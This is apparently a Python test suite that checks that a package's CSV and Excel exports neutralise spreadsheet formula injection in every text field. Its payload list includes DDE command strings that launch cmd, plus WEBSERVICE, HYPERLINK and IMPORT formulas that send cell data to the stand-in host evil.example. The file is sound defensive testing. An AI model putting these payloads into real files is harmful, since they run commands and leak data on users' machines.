"""No text that anybody wrote runs in a spreadsheet: every payload in every text field, in CSV and in workbooks."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sightline.document import Organization, Tree, build_organization
from sightline.formats import read_organization, write_organization
from sightline.formats.columns import DECISION_COLUMNS, ELEMENT_COLUMNS, OBSTACLE_COLUMNS, PLAN_COLUMNS, Column
from sightline.formats.columns import RELATION_COLUMNS as ALL_RELATION_COLUMNS
from sightline.formats.csv_folder import guard
from sightline.formats.csv_rows import read_rows
from sightline.formats.source import TableLimits
from sightline.formats.table_records import set_nested
from sightline.pipeline import analyze
from sightline.report.tables_out import to_csv_tables

COMMAND = "cmd|' /C calc'!A0"
PAYLOADS = (
    *(f"{sign}1+1" for sign in "=+-@|%\uff1d\uff0b\uff0d\uff20"),
    *(f"{sign}{COMMAND}" for sign in "=+-@\uff1d"),
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example")',
    '=IMAGE("http://evil.example/a.png")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "=1+1;2",
    "http://evil.example",
    "mailto:a@evil.example",
    "+44 20 7946 0000",
    "-5",
    *(f"{prefix}=1+1" for prefix in ("\t", "\r", "\n", "\r\n", " ", "\u00a0", "\ufeff", "\u200b", "\u200e", "\u2060")),
    "'=1+1",
    '"=1+1',
    *(f"a{separator}=1+1{separator}b" for separator in (";", "\t", "\n", "; ", ";'", ",")),
)
SIGNS = "=+-@|%\uff1d\uff0b\uff0d\uff20"
SKIPPED = re.compile("[\\s\x00-\x1f\u200b-\u200f\u2060\ufeff]*")
NUMBER = re.compile(r"-?[0-9.]+(e[-+]?[0-9]+)?")
RELATION_COLUMNS = tuple(column for column in ALL_RELATION_COLUMNS if column.name != "channel")
IDS = ("caused_by", "reports_to", "obstacle", "on")


def could_run(cell: str) -> bool:
    """Tell whether a spreadsheet might take what stands in a cell for a formula."""
    rest = cell[SKIPPED.match(cell).end() :]  # type: ignore[union-attr]
    return rest[:1] in tuple(SIGNS) and not NUMBER.fullmatch(cell)


def body(columns: tuple[Column, ...], text: str) -> dict[str, object]:
    """Put a text into every field that takes any text."""
    raw: dict[str, object] = {}
    for column in columns:
        if column.kind in ("label", "text", "evidence") and column.name not in IDS:
            set_nested(raw, column.path, text)
        elif column.name in ("tags", "jobs", "themes"):
            set_nested(raw, column.path, ["plain", text])
    return raw


def hostile(text: str) -> Organization:
    """Build an organization that has a text in every field that takes any text."""
    obstacle = body(OBSTACLE_COLUMNS, text) | {"id": "k", "kind": "missing-feedback", "severity": 0.3}
    relation = body(RELATION_COLUMNS, text) | {"to": "c", "obstacles": [obstacle]}
    team = body(ELEMENT_COLUMNS, text) | {"headcount": 3, "serves": [relation]}
    feedback = [{"to": "t", "channel": text}]
    raw = {
        "sightline": 1,
        "name": text,
        "description": text,
        "customers": {"c": {"name": text, "feedback": feedback}},
        "teams": {"t": team},
        "decisions": {"d": body(DECISION_COLUMNS, text) | {"decider": "t", "about": ["t"]}},
        "interventions": [body(PLAN_COLUMNS, text) | {"id": "i", "clears": [{"obstacle": "k", "to": 0.1}]}],
    }
    return build_organization(Tree(raw))


PAYLOAD = pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))


def test_there_is_enough_to_try() -> None:
    assert len(set(PAYLOADS)) >= 42
    assert hostile("PAYLOAD").model_dump_json().count("PAYLOAD") >= 30


def cells(text: str, separator: str = ",") -> Iterator[str]:
    """Go through the cells of a CSV text as a spreadsheet that splits at this separator does."""
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row


@PAYLOAD
def test_no_cell_of_a_csv_folder_runs(payload: str, tmp_path: Path) -> None:
    organization = hostile(payload)
    write_organization(organization, tmp_path / "tables")
    looked = 0
    for file in sorted((tmp_path / "tables").iterdir()):
        text = file.read_text(encoding="utf-8-sig")
        for separator in ",;\t":
            found = list(cells(text, separator))
            assert not [cell for cell in found if could_run(cell)]
            looked += sum(payload[-1:] in cell for cell in found)
    assert looked > 20
    assert read_organization(tmp_path / "tables").organization == organization


@PAYLOAD
def test_no_cell_of_the_results_as_csv_runs(payload: str) -> None:
    tables = to_csv_tables(analyze(hostile(payload)))
    assert len(tables) > 5
    assert not [
        cell for text in tables.values() for separator in ",;\t" for cell in cells(text, separator) if could_run(cell)
    ]


@PAYLOAD
def test_no_cell_of_a_workbook_runs(payload: str, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    pytest.importorskip("xlsxwriter")
    write_organization(hostile(payload), tmp_path / "book.xlsx")
    with zipfile.ZipFile(tmp_path / "book.xlsx") as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 8
    assert not [text for text in sheets if re.search(r"<f[\s>/]|<hyperlink", text)]
    assert not [name for name in parts if re.search("hyperlink|externalLink|connections|comments|vba", name)]
    assert not [text for name, text in parts.items() if name.endswith(".rels") and "External" in text]
    assert set(re.findall(r'<definedName name="([^"]*)"', parts["xl/workbook.xml"])) <= {"_xlnm._FilterDatabase"}
    book = openpyxl.load_workbook(tmp_path / "book.xlsx")
    assert book.sheetnames == [
        "About", "Elements", "Relations", "Obstacles", "Interventions", "Decisions", "Organization", "Lists",
    ]  # fmt: skip
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in found if cell.data_type == "f" or cell.hyperlink is not None]
    assert sum(isinstance(cell.value, str) and payload.strip()[:3] in cell.value for cell in found) > 15


@settings(max_examples=100)
@given(text=st.text(st.sampled_from(";'\t\r\n =-a\"\u200b\uff1d,"), max_size=12))
def test_what_is_guarded_reads_back_and_cannot_run(text: str) -> None:
    spelled = guard(text)
    rows = io.StringIO(newline="")
    csv.writer(rows, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(["first", spelled, "last"])
    read = list(read_rows(rows.getvalue(), ",", file="x", limits=TableLimits()))
    assert read == [["first", text, "last"]]
    assert not [cell for separator in ",;\t" for cell in cells(rows.getvalue(), separator) if could_run(cell)]


def test_guarding_long_runs_takes_no_time() -> None:
    text = ";\n\t " * 30_000
    assert guard(text) == f"'{text}" or guard(text) == text
    assert guard(text + "=1").count("'") == 90_000
